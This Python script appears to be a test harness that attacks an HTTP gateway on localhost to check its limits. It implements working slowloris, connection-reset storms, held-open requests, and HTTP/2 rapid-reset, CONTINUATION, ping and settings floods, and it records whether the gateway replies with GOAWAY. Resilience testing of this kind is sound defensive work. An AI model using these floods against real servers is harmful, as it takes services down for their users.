"""Attacks on a gateway at 127.0.0.1:PORT, from raw sockets (Python standard library only).

Usage: gateway_attacks.py PORT KIND [SECONDS] [CONNECTIONS]

Every kind runs for SECONDS (default 3) and prints one JSON line with what it saw:

  busy-http1   CONNECTIONS connections each send a POST head declaring a body that never comes
               (half of them with `Expect: 100-continue`); each closed one is opened again.
  busy-http2   CONNECTIONS HTTP/2 connections each hold one stream open (HEADERS, no END_STREAM)
               and finish one request every second; each closed one is opened again.
  reset        connect, then reset (SO_LINGER 0) before the gateway accepts, as fast as possible.
  reset-burst  CONNECTIONS connections in a row connect, then reset; it ends early at the first
               connect not answered within 0.5 s (the kernel dropped its SYN: the gateway's queue
               of connections not yet accepted is full). `connections` is how many got in.
  h2-close     CONNECTIONS HTTP/2 connections each get one answer, then all close at once.
  slowloris    CONNECTIONS connections drip a request head one byte at a time.
  ping, settings, rst, continuation, window-update, empty-data
               HTTP/2 control-frame floods on CONNECTIONS connections (default 4), never reading
               what the gateway answers; each closed one is opened again. The first connection of
               each kind sends one burst, then reads until the gateway closes: `goaway` is the
               error code of the GOAWAY frame it got (11 is ENHANCE_YOUR_CALM), or null.
"""
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK, static table only: :method GET (2), :scheme http (6), :path / (4), POST is 3; and
# :authority x (name index 1) or :path /healthz (name index 4) as literals without indexing.
AUTHORITY = b"\x01\x01x"
GET_ROOT = b"\x82\x86\x84" + AUTHORITY
POST_ROOT = b"\x83\x86\x84" + AUTHORITY
GET_HEALTHZ = b"\x82\x86\x04\x08/healthz" + AUTHORITY
# A literal header field, new name, never indexed: x-a: 32 bytes.
JUNK_HEADER = b"\x10\x03x-a\x20" + b"a" * 32

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def connect(port, timeout=2.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def h2_connect(port):
    s = connect(port)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


class Flood:
    """Endless frames of one kind; `opening` goes first on each connection."""

    def __init__(self, kind):
        self.kind = kind
        self.stream = 1

    def opening(self):
        if self.kind == "empty-data":
            self.stream = 1
            return frame(HEADERS, END_HEADERS, 1, POST_ROOT)
        if self.kind == "continuation":
            return frame(HEADERS, 0, 1, GET_ROOT)
        self.stream = 1
        return b""

    def batch(self, count=64):
        out = []
        for _ in range(count):
            if self.kind == "ping":
                out.append(frame(PING, 0, 0, b"\x00" * 8))
            elif self.kind == "settings":
                out.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
            elif self.kind == "window-update":
                out.append(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
            elif self.kind == "empty-data":
                out.append(frame(DATA, 0, 1))
            elif self.kind == "continuation":
                out.append(frame(CONTINUATION, 0, 1, JUNK_HEADER))
            elif self.kind == "rst":
                out.append(frame(HEADERS, END_HEADERS, self.stream, GET_ROOT))
                out.append(frame(RST_STREAM, 0, self.stream, struct.pack(">I", 8)))
                self.stream += 2
        return b"".join(out)


def read_frames(s, seconds):
    """Reads until the peer closes or `seconds` pass: the frame types seen, and a GOAWAY's code."""
    s.settimeout(seconds)
    data = b""
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    goaway = None
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        kind = data[at + 3]
        if kind == GOAWAY and at + 17 <= len(data):
            goaway = struct.unpack(">I", data[at + 13:at + 17])[0]
        at += 9 + length
    return goaway


def refill(socks, connections, open_one):
    """Opens connections with `open_one` until there are `connections`; how many it opened."""
    opened = 0
    while len(socks) < connections:
        try:
            socks.append(open_one())
            opened += 1
        except OSError:
            time.sleep(0.01)
            break
    return opened


def flood(port, kind, seconds, connections):
    source = Flood(kind)
    # One burst on a connection of its own, then read what the gateway says.
    probe = h2_connect(port)
    burst = source.opening() + b"".join(source.batch() for _ in range(80))
    try:
        probe.sendall(burst)
    except OSError:
        pass
    goaway = read_frames(probe, 3)
    probe.close()
    sent = 0
    opened = 0
    socks = []
    end = time.monotonic() + seconds
    def open_one():
        s = h2_connect(port)
        s.sendall(source.opening())
        s.setblocking(False)
        return s

    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        _, writable, _ = select.select([], socks, [], 0.05)
        for s in writable:
            try:
                sent += s.send(source.batch())
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                socks.remove(s)
    for s in socks:
        s.close()
    return {"kind": kind, "goaway": goaway, "connections": opened, "bytes": sent}


def busy_http1(port, seconds, connections):
    opened = 0
    continued = 0
    socks = []
    end = time.monotonic() + seconds
    def open_one():
        s = connect(port)
        # Every other one waits for 100 Continue before it would send the body.
        expect = b"Expect: 100-continue\r\n" if (opened + len(socks)) % 2 else b""
        s.sendall(b"POST /healthz HTTP/1.1\r\nHost: x\r\n" + expect + b"Content-Length: 9\r\n\r\n")
        return s

    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        readable, _, _ = select.select(socks, [], [], 0.1)
        for s in readable:
            try:
                # 100 Continue is fine; an end or reset means the gateway closed it.
                data = s.recv(4096)
                if data:
                    continued += data.startswith(b"HTTP/1.1 100 Continue\r\n")
                    continue
            except OSError:
                pass
            s.close()
            socks.remove(s)
    for s in socks:
        s.close()
    return {"kind": "busy-http1", "connections": opened, "continued": continued}


def busy_http2(port, seconds, connections):
    opened = 0
    finished = 0
    socks = []
    end = time.monotonic() + seconds
    last_round = 0.0
    def open_one():
        s = h2_connect(port)
        # Stream 1 stays open: a POST whose body never ends.
        s.sendall(frame(HEADERS, END_HEADERS, 1, POST_ROOT))
        return [s, 3]

    while time.monotonic() < end:
        opened += refill(socks, connections, open_one)
        if time.monotonic() - last_round >= 1.0:
            last_round = time.monotonic()
            for entry in list(socks):
                s, stream = entry
                try:
                    s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_HEALTHZ))
                    entry[1] += 2
                    finished += 1
                except OSError:
                    s.close()
                    socks.remove(entry)
        readable, _, _ = select.select([e[0] for e in socks], [], [], 0.1)
        for s in readable:
            try:
                if s.recv(65536):
                    continue
            except OSError:
                pass
            s.close()
            socks[:] = [e for e in socks if e[0] is not s]
    for s, _ in socks:
        s.close()
    return {"kind": "busy-http2", "connections": opened, "requests": finished}


def h2_close(port, connections):
    socks = []
    answered = 0
    for _ in range(connections):
        s = h2_connect(port)
        s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_HEALTHZ))
        socks.append(s)
    for s in socks:
        data = b""
        s.settimeout(2)
        try:
            while b"ok" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        answered += b"ok" in data
    for s in socks:
        s.close()
    return {"kind": "h2-close", "connections": connections, "answered": answered}


def reset(port, seconds):
    count = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            s.connect(("127.0.0.1", port))
            s.close()
            count += 1
        except OSError:
            pass
    return {"kind": "reset", "connections": count}


def reset_burst(port, connections):
    count = 0
    for _ in range(connections):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.settimeout(0.5)
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            break
        finally:
            s.close()
        count += 1
    return {"kind": "reset-burst", "connections": count}


def slowloris(port, seconds, connections):
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Drip: " + b"d" * 10000
    socks = []
    opened = 0
    end = time.monotonic() + seconds
    at = 0
    while time.monotonic() < end:
        opened += refill(socks, connections, lambda: connect(port))
        for s in list(socks):
            try:
                s.send(head[at % len(head):at % len(head) + 1])
            except OSError:
                s.close()
                socks.remove(s)
        at += 1
        time.sleep(0.05)
    for s in socks:
        s.close()
    return {"kind": "slowloris", "connections": opened}


def main():
    port = int(sys.argv[1])
    kind = sys.argv[2]
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 3.0
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else None
    if kind == "busy-http1":
        result = busy_http1(port, seconds, connections or 128)
    elif kind == "busy-http2":
        result = busy_http2(port, seconds, connections or 128)
    elif kind == "h2-close":
        result = h2_close(port, connections or 100)
    elif kind == "reset":
        result = reset(port, seconds)
    elif kind == "reset-burst":
        result = reset_burst(port, connections)
    elif kind == "slowloris":
        result = slowloris(port, seconds, connections or 500)
    else:
        result = flood(port, kind, seconds, connections or 4)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
